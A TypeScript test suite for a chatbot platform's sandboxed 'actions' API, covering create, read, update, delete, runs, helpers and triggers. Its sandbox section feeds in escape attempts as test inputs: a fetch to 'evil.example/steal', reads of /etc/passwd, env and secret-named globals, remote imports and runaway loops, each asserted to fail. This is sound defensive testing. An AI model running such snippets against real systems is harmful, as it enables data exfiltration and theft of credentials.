import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { CODE_MAX_BYTES } from "../../src/actions/code";
import { LOG_MAX_LINES } from "../../src/actions/sandbox-modules";
import { insertActionWithinLimit } from "../../src/actions/storage";
import { newId } from "../../src/shared/ids";
import {
  type ApiResponse,
  call,
  createChatbot,
  createTeam,
  expectFieldErrors,
  expectProblem,
  getConversation,
  sendMessageOk,
  startConversationWith,
} from "../support/api";
import { describeApiKeyAuth } from "../support/api-key-suite";
import { getParticipant } from "../support/participants";

const ECHO = `export default async function execute(context) { return { input: context.input }; }`;

async function createAction(apiKey: string, body: Record<string, unknown>) {
  const response = await call("POST", "/v1/actions", { token: apiKey, body: { name: "An action", ...body } });
  expect(response.status, response.text).toBe(201);
  return response.json as { id: string; version: number; allowed_hosts: string[] };
}

/** An action written to the table without the checks of the API. */
async function storeUnchecked(teamId: string, code: string): Promise<string> {
  const now = new Date().toISOString();
  const id = newId("act");
  const action = {
    id,
    team_id: teamId,
    chatbot_id: null,
    name: "raw",
    code,
    version: 1,
    allowed_hosts: [],
    timeout_ms: 5000,
    created_at: now,
    updated_at: now,
  };
  expect(await insertActionWithinLimit(env.DB, action, 100)).toBe(true);
  return id;
}

function run(apiKey: string, id: string, body: Record<string, unknown> = {}) {
  return call("POST", `/v1/actions/${id}/run`, { token: apiKey, body });
}

/** Runs `code` as a new action of a fresh team (a dry run unless told). */
async function runCode(code: string, extra: Record<string, unknown> = {}, body: Record<string, unknown> = {}) {
  const team = await createTeam();
  const action = await createAction(team.apiKey, { code, ...extra });
  return run(team.apiKey, action.id, body);
}

/** A 422 action-failed whose `error` matches `reason`; the Worker answers /healthz after it. */
async function expectFailed(response: ApiResponse, reason: RegExp) {
  const problem = expectProblem(response, 422);
  expect(problem.type).toBe("/problems/action-failed");
  expect(problem.error).toMatch(reason);
  expect(Array.isArray(problem.logs)).toBe(true);
  expect((await call("GET", "/healthz")).status).toBe(200);
  return problem;
}

/** A team, a chatbot and a widget conversation started with `data` as its metadata. */
async function conversationWith(data: Record<string, string>, schema?: Record<string, unknown>) {
  const team = await createTeam();
  const bot = await createChatbot(team.apiKey, { name: "Shop bot", ...(schema ? { participant_data_schema: schema } : {}) });
  const started = await startConversationWith(bot.id, { data });
  return { team, bot, started };
}

describe("actions as a resource", () => {
  it("creates, reads, lists, edits (a code edit is a new version) and deletes an action", async () => {
    const team = await createTeam();
    const created = await call("POST", "/v1/actions", {
      token: team.apiKey,
      body: { name: "Echo", code: ECHO, allowed_hosts: ["API.example.com", "api.example.com:443", "127.0.0.1:9000"] },
    });
    expect(created.status, created.text).toBe(201);
    expect(created.headers.get("Location")).toBe(`/v1/actions/${created.json.id}`);
    expect(created.json).toMatchObject({
      name: "Echo",
      chatbot_id: null,
      version: 1,
      allowed_hosts: ["api.example.com", "127.0.0.1:9000"],
      timeout_ms: 5000,
      code: ECHO,
    });
    const id = created.json.id as string;
    expect((await call("GET", `/v1/actions/${id}`, { token: team.apiKey })).json).toEqual(created.json);
    const list = await call("GET", "/v1/actions", { token: team.apiKey });
    expect(list.json.actions.map((a: { id: string }) => a.id)).toEqual([id]);
    expect(list.json.actions[0].code).toBeUndefined();

    const renamed = await call("PATCH", `/v1/actions/${id}`, { token: team.apiKey, body: { name: "Renamed", timeout_ms: 2000 } });
    expect(renamed.json).toMatchObject({ name: "Renamed", version: 1, timeout_ms: 2000 });
    const edited = await call("PATCH", `/v1/actions/${id}`, {
      token: team.apiKey,
      body: { code: `export default async () => "v2";` },
    });
    expect(edited.status, edited.text).toBe(200);
    expect(edited.json.version).toBe(2);
    const hosts = await call("PATCH", `/v1/actions/${id}`, { token: team.apiKey, body: { allowed_hosts: [] } });
    expect(hosts.json.version).toBe(3);

    expect((await call("DELETE", `/v1/actions/${id}`, { token: team.apiKey })).status).toBe(204);
    expectProblem(await call("GET", `/v1/actions/${id}`, { token: team.apiKey }), 404);
    expectProblem(await call("DELETE", `/v1/actions/${id}`, { token: team.apiKey }), 404);
  });

  it("runs the new code at once after an edit: the cached isolate of the old version is never used", async () => {
    const team = await createTeam();
    const action = await createAction(team.apiKey, { code: `export default async () => "first";` });
    expect((await run(team.apiKey, action.id)).json.result).toBe("first");
    expect((await run(team.apiKey, action.id)).json.result).toBe("first");
    await call("PATCH", `/v1/actions/${action.id}`, { token: team.apiKey, body: { code: `export default async () => "second";` } });
    expect((await run(team.apiKey, action.id)).json.result).toBe("second");
  });

  it("refuses code that does not parse with 400 naming the line and column, and stores nothing", async () => {
    const team = await createTeam();
    const response = await call("POST", "/v1/actions", {
      token: team.apiKey,
      body: { name: "Broken", code: "export default async function execute(context) {\n  return context.input +;\n}" },
    });
    expectFieldErrors(response, ["/code"]);
    expect(response.json.detail).toMatch(/Syntax error: Unexpected token \(line 2, column 25\)/);
    expect((await call("GET", "/v1/actions", { token: team.apiKey })).json.actions).toEqual([]);
    const action = await createAction(team.apiKey, { code: ECHO });
    const patched = await call("PATCH", `/v1/actions/${action.id}`, { token: team.apiKey, body: { code: "export default (" } });
    expectFieldErrors(patched, ["/code"]);
    expect((await call("GET", `/v1/actions/${action.id}`, { token: team.apiKey })).json.code).toBe(ECHO);
  });

  it("refuses code without a default export, code over 64 KiB, and bad hosts or timeouts", async () => {
    const team = await createTeam();
    const noDefault = await call("POST", "/v1/actions", { token: team.apiKey, body: { name: "x", code: "export const a = 1;" } });
    expect(expectFieldErrors(noDefault, ["/code"]).detail).toMatch(/export default/);
    const big = `export default async () => 1;\n//${"x".repeat(CODE_MAX_BYTES)}`;
    expectFieldErrors(await call("POST", "/v1/actions", { token: team.apiKey, body: { name: "x", code: big } }), ["/code"]);
    for (const host of ["https://api.example.com", "api.example.com/path", "user@api.example.com", "*.example.com", ""]) {
      const response = await call("POST", "/v1/actions", { token: team.apiKey, body: { name: "x", code: ECHO, allowed_hosts: [host] } });
      expectFieldErrors(response, ["/allowed_hosts/0"]);
    }
    for (const timeout_ms of [0, 30_001, 1.5]) {
      const response = await call("POST", "/v1/actions", { token: team.apiKey, body: { name: "x", code: ECHO, timeout_ms } });
      expectFieldErrors(response, ["/timeout_ms"]);
    }
  });

  it("keeps another team's actions out of sight: 404 as for a missing id", async () => {
    const owner = await createTeam();
    const other = await createTeam();
    const action = await createAction(owner.apiKey, { code: ECHO });
    for (const [method, path] of [
      ["GET", `/v1/actions/${action.id}`],
      ["PATCH", `/v1/actions/${action.id}`],
      ["DELETE", `/v1/actions/${action.id}`],
      ["POST", `/v1/actions/${action.id}/run`],
    ] as const) {
      expectProblem(await call(method, path, { token: other.apiKey, body: method === "GET" || method === "DELETE" ? undefined : {} }), 404);
    }
    expect((await call("GET", "/v1/actions", { token: other.apiKey })).json.actions).toEqual([]);
    expect((await call("GET", `/v1/actions/${action.id}`, { token: owner.apiKey })).json.code).toBe(ECHO);
  });
});

describe("POST /v1/actions/:id/run", () => {
  it("runs a dry run with input and answers the result, the logs and the duration", async () => {
    const response = await runCode(
      `export default async function execute(context) {
        console.log("got", context.input, 42);
        console.warn({ careful: true });
        return { doubled: context.input.n * 2, conversation: context.conversation_id, participant: context.participant_id };
      }`,
      {},
      { input: { n: 21 } },
    );
    expect(response.status, response.text).toBe(200);
    expect(response.json.result).toEqual({ doubled: 42, conversation: null, participant: null });
    expect(response.json.logs).toEqual(['got {"n":21} 42', '[warn] {"careful":true}']);
    expect(typeof response.json.duration_ms).toBe("number");
  });

  it("keeps at most 100 log lines of at most 1,000 characters each", async () => {
    const response = await runCode(
      `export default async () => { for (let i = 0; i < 500; i++) console.log("x".repeat(5000)); return null; };`,
    );
    expect(response.status, response.text).toBe(200);
    expect(response.json.logs).toHaveLength(LOG_MAX_LINES + 1);
    expect(response.json.logs[0]).toHaveLength(1001);
    expect(response.json.logs.at(-1)).toBe("… 400 more lines not kept");
  });

  it("answers 422 with the error and the logs when the action throws", async () => {
    const problem = await expectFailed(
      await runCode(`export default async () => { console.log("before"); throw new Error("no such order"); };`),
      /^Error: no such order$/,
    );
    expect(problem.logs).toEqual(["before"]);
  });

  it("answers 422 for a result that is not JSON: a function, a Date, a BigInt, NaN, a cycle", async () => {
    await expectFailed(await runCode(`export default async () => () => 1;`), /function/);
    await expectFailed(await runCode(`export default async () => ({ when: new Date() });`), /Date at \/when/);
    await expectFailed(await runCode(`export default async () => ({ n: 10n });`), /bigint/);
    await expectFailed(await runCode(`export default async () => [1, NaN];`), /number JSON cannot carry/);
    await expectFailed(await runCode(`export default async () => { const a = {}; a.self = a; return a; };`), /refers to itself/);
    await expectFailed(await runCode(`export default 42;`), /not a function/);
  });

  it("answers 422 for a result over 64 KiB", async () => {
    await expectFailed(await runCode(`export default async () => "x".repeat(70000);`), /at most 65536/);
  });

  it("answers 422 when the action runs past its timeout", async () => {
    const started = Date.now();
    await expectFailed(
      await runCode(`export default async () => { await new Promise((resolve) => setTimeout(resolve, 5000)); return 1; };`, {
        timeout_ms: 300,
      }),
      /did not finish within 300 ms/,
    );
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it("refuses a conversation or participant of another team with 404, and a participant not the conversation's with 400", async () => {
    const mine = await conversationWith({});
    const theirs = await conversationWith({ user_id: "secret" });
    const action = await createAction(mine.team.apiKey, { code: ECHO });
    expectProblem(await run(mine.team.apiKey, action.id, { conversation_id: theirs.started.conversation_id }), 404);
    expectProblem(await run(mine.team.apiKey, action.id, { participant_id: theirs.started.participant_id }), 404);
    const second = await startConversationWith(mine.bot.id);
    expectProblem(
      await run(mine.team.apiKey, action.id, { conversation_id: mine.started.conversation_id, participant_id: second.participant_id }),
      400,
    );
  });
});

describe("the sandbox: every escape attempt is a clean 422 and the Worker keeps serving", () => {
  it("fetch to a host outside allowed_hosts is refused by the outbound gate", async () => {
    const code = `export default async () => { const r = await fetch("https://evil.example/steal"); return r.status; };`;
    await expectFailed(await runCode(code, { allowed_hosts: ["api.example.com"] }), /fetch to evil\.example refused/);
    await expectFailed(await runCode(code), /allowed_hosts are empty/);
  });

  it("fetch to a private address, or plain http, is refused even when listed", async () => {
    await expectFailed(
      await runCode(`export default async () => (await fetch("https://10.0.0.1/")).status;`, { allowed_hosts: ["10.0.0.1"] }),
      /private address/,
    );
    await expectFailed(
      await runCode(`export default async () => (await fetch("http://api.example.com/")).status;`, { allowed_hosts: ["api.example.com"] }),
      /must use https/,
    );
    // Loopback only where ALLOW_LOCAL_WEBHOOKS=true (it is false in this suite).
    await expectFailed(
      await runCode(`export default async () => (await fetch("http://127.0.0.1:9000/")).status;`, { allowed_hosts: ["127.0.0.1:9000"] }),
      /loopback host, allowed only where the deployment sets ALLOW_LOCAL_WEBHOOKS=true/,
    );
  });

  it("reading env finds nothing of ours", async () => {
    await expectFailed(await runCode(`export default async () => Object.keys(env);`), /ReferenceError: env is not defined/);
    const globals = await runCode(
      `export default async (context) => ({ keys: Object.keys(context), global: Object.keys(globalThis).filter((k) => /DB|LOADER|CONVERSATIONS|RENDERS|SECRET|TOKEN/.test(k)) });`,
    );
    expect(globals.json.result).toEqual({ keys: ["conversation_id", "participant_id", "chatbot_id", "input"], global: [] });
    // No Node surface either: no process (no getBuiltinModule), no Buffer.
    const node = await runCode(`export default async () => [typeof process, typeof Buffer, typeof require];`);
    expect(node.json.result).toEqual(["undefined", "undefined", "undefined"]);
  });

  it("the helpers reach only the run's own conversation, whatever context they are passed", async () => {
    const mine = await conversationWith({ user_id: "mine" });
    const theirs = await conversationWith({ user_id: "theirs" });
    const action = await createAction(mine.team.apiKey, {
      code: `import { getConversationMetadata, getParticipantData } from "chat-context";
      export default async function execute(context) {
        const forged = { ...context, conversation_id: context.input.other, participant_id: context.input.otherParticipant };
        return {
          own: await getConversationMetadata(context, "chat-widget:user_id"),
          forged: await getConversationMetadata(forged, "chat-widget:user_id"),
          forgedData: await getParticipantData(forged),
        };
      }`,
    });
    const response = await run(mine.team.apiKey, action.id, {
      conversation_id: mine.started.conversation_id,
      input: { other: theirs.started.conversation_id, otherParticipant: theirs.started.participant_id },
    });
    expect(response.status, response.text).toBe(200);
    expect(response.json.result).toEqual({ own: "mine", forged: "mine", forgedData: {} });
    expect(JSON.stringify(response.json)).not.toContain("theirs");
  });

  it("a loop that never ends goes over its budget", async () => {
    await expectFailed(await runCode(`export default async () => { while (true) {} };`), /budget of 2000000 loop iterations/);
    await expectFailed(await runCode(`export default async () => { for (;;) { try { for (;;); } catch {} } };`), /budget/);
    await expectFailed(
      await runCode(
        `export default async () => { const f = () => f2(); const f2 = () => { try { return f(); } catch { return f(); } }; return f(); };`,
      ),
      /budget|stack|did not finish/,
    );
    await expectFailed(await runCode(`export default async () => { while (true) { await null; } };`), /budget/);
  });

  it("an action that replaces the runner's globals (JSON, Array.prototype) gets a 422, not a 500", async () => {
    await expectFailed(await runCode(`export default async () => { JSON.stringify = () => "not json {"; return 1; };`), /not JSON/);
    const pushed = await runCode(
      `export default async () => { Array.prototype.slice = function () { return this; }; for (let i = 0; i < 300; i++) console.log("x"); return 1; };`,
    );
    expect(pushed.status, pushed.text).toBe(200);
    expect(pushed.json.logs.length).toBeLessThanOrEqual(LOG_MAX_LINES + 1);
  });

  it("allocating without bound ends (by the budget here; by the isolate's memory limit on Cloudflare)", async () => {
    await expectFailed(
      await runCode(`export default async () => { const all = []; while (true) all.push({ n: all.length }); };`),
      /budget/,
    );
  });

  it("imports other than chat-context are refused when saved (400 with where), and fail the run if stored anyway", async () => {
    const team = await createTeam();
    for (const code of [
      `import fs from "node:fs";\nexport default async () => fs.readFileSync("/etc/passwd", "utf8");`,
      `import x from "https://evil.example/x.js";\nexport default async () => x;`,
      `import { env } from "cloudflare:workers";\nexport default async () => Object.keys(env);`,
      `import { tick } from "chat-context-internal.js";\nexport default async () => tick;`,
      `export default async () => (await import("node:fs")).readFileSync("/etc/passwd");`,
      `export * from "cloudflare:sockets";\nexport default async () => 1;`,
    ]) {
      const response = await call("POST", "/v1/actions", { token: team.apiKey, body: { name: "x", code } });
      expect(expectFieldErrors(response, ["/code"]).detail, code).toMatch(/import.*\(line \d+, column \d+\)/);
    }
    const reserved = await call("POST", "/v1/actions", {
      token: team.apiKey,
      body: { name: "x", code: `const __chatContextTick = () => {};\nexport default async () => { while (true) {} };` },
    });
    expect(expectFieldErrors(reserved, ["/code"]).detail).toMatch(/reserved\. \(line 1, column 7\)/);
    // Code that got into the table some other way still cannot reach Node or the network: the isolate does not load it.
    const stored = await storeUnchecked(
      team.id,
      `import fs from "node:fs";\nexport default async () => fs.readFileSync("/etc/passwd", "utf8");`,
    );
    await expectFailed(await run(team.apiKey, stored), /No such module "node:fs"/);
  });
});

describe("the helpers", () => {
  it("purchase history (the seed's example): parses chat-widget:recent_orders and returns the orders and their count", async () => {
    const orders = [
      { id: "A-1001", total: 25.5, placed_at: "2026-10-01" },
      { id: "A-1002", total: 12, placed_at: "2026-11-02" },
    ];
    const { team, started } = await conversationWith({ recent_orders: JSON.stringify(orders) });
    const action = await createAction(team.apiKey, {
      name: "Purchase history",
      code: `import { getConversationMetadata } from "chat-context";

export default async function execute(context) {
  const raw = await getConversationMetadata(context, "chat-widget:recent_orders");
  if (!raw) return { orders: [], total_orders: 0 };
  const orders = JSON.parse(raw);
  return { orders, total_orders: orders.length };
}`,
    });
    const response = await run(team.apiKey, action.id, { conversation_id: started.conversation_id });
    expect(response.status, response.text).toBe(200);
    expect(response.json.result).toEqual({ orders, total_orders: 2 });
    const dry = await run(team.apiKey, action.id, {});
    expect(dry.json.result).toEqual({ orders: [], total_orders: 0 });
  });

  it("set, append and increment participant data through the write path: merged, schema-checked, versioned", async () => {
    const { team, started } = await conversationWith(
      {},
      {
        type: "object",
        properties: { tier: { type: "string" }, visits: { type: "integer" }, tags: { type: "array" } },
      },
    );
    const action = await createAction(team.apiKey, {
      code: `import { getParticipantData, setParticipantData, appendToParticipantData, incrementParticipantData } from "chat-context";
      export default async function execute(context) {
        await setParticipantData(context, { tier: "gold" });
        await appendToParticipantData(context, "tags", "vip");
        await incrementParticipantData(context, "visits");
        await incrementParticipantData(context, "visits", 2);
        return getParticipantData(context);
      }`,
    });
    const response = await run(team.apiKey, action.id, { conversation_id: started.conversation_id });
    expect(response.status, response.text).toBe(200);
    expect(response.json.result).toEqual({ tier: "gold", tags: ["vip"], visits: 3 });
    const participant = await getParticipant(team.apiKey, started.participant_id);
    expect(participant.data).toEqual({ tier: "gold", tags: ["vip"], visits: 3 });
    expect(participant.version).toBe(5);

    const refused = await createAction(team.apiKey, {
      code: `import { setParticipantData } from "chat-context"; export default async (context) => setParticipantData(context, { visits: "many" });`,
    });
    await expectFailed(await run(team.apiKey, refused.id, { conversation_id: started.conversation_id }), /visits/);
    expect((await getParticipant(team.apiKey, started.participant_id)).data.visits).toBe(3);
  });

  it("a dry run has no participant to write: the helper says so", async () => {
    await expectFailed(
      await runCode(`import { setParticipantData } from "chat-context"; export default async (c) => setParticipantData(c, { a: 1 });`),
      /no participant/,
    );
  });

  it("an action bound to a chatbot runs only on that chatbot's conversations", async () => {
    const { team, started } = await conversationWith({});
    const otherBot = await createChatbot(team.apiKey, { name: "Other" });
    const action = await createAction(team.apiKey, { code: ECHO, chatbot_id: otherBot.id });
    expectProblem(await run(team.apiKey, action.id, { conversation_id: started.conversation_id }), 400);
  });
});

describe("triggers: run_action", () => {
  it("runs the action on a visitor message and records its outcome as the event's detail", async () => {
    const team = await createTeam();
    const bot = await createChatbot(team.apiKey);
    const action = await createAction(team.apiKey, {
      code: `import { getConversationMetadata, incrementParticipantData } from "chat-context";
      export default async (context) => { await incrementParticipantData(context, "messages"); return { plan: await getConversationMetadata(context, "chat-widget:plan") }; };`,
    });
    const failing = await createAction(team.apiKey, { code: `export default async () => { throw new Error("boom"); };` });
    for (const action_id of [action.id, failing.id]) {
      const trigger = await call("POST", `/v1/chatbots/${bot.id}/triggers`, {
        token: team.apiKey,
        body: { on: "message_received", action: { type: "run_action", action_id } },
      });
      expect(trigger.status, trigger.text).toBe(201);
    }
    const started = await startConversationWith(bot.id, { data: { plan: "gold" } });
    await sendMessageOk(started.conversation_id, started.token, { text: "hello" });
    const events = (await call("GET", `/v1/conversations/${started.conversation_id}/events`, { token: team.apiKey })).json.events;
    expect(events.map((e: { status: string }) => e.status)).toEqual(["ok", "failed"]);
    expect(events[0].detail).toMatch(new RegExp(`Action ${action.id} returned \\{"plan":"gold"\\}`));
    expect(events[1].detail).toMatch(/Error: boom/);
    expect((await getParticipant(team.apiKey, started.participant_id)).data).toEqual({ messages: 1 });
    expect((await getConversation(team.apiKey, started.conversation_id)).metadata["chat-widget:plan"]).toBe("gold");
  });
});

describeApiKeyAuth({
  setup: async () => {
    const team = await createTeam();
    const chatbot = await createChatbot(team.apiKey);
    const action = await createAction(team.apiKey, { code: ECHO });
    return { team, ids: { action: action.id, chatbot: chatbot.id } };
  },
  routes: [
    { method: "POST", path: () => "/v1/actions", body: () => ({ name: "x", code: ECHO }), teamWide: true },
    { method: "GET", path: () => "/v1/actions", teamWide: true },
    { method: "GET", path: ({ action }) => `/v1/actions/${action}` },
    { method: "PATCH", path: ({ action }) => `/v1/actions/${action}`, body: () => ({ name: "renamed" }) },
    { method: "DELETE", path: ({ action }) => `/v1/actions/${action}` },
    { method: "POST", path: ({ action }) => `/v1/actions/${action}/run`, body: () => ({ input: 1 }) },
  ],
});
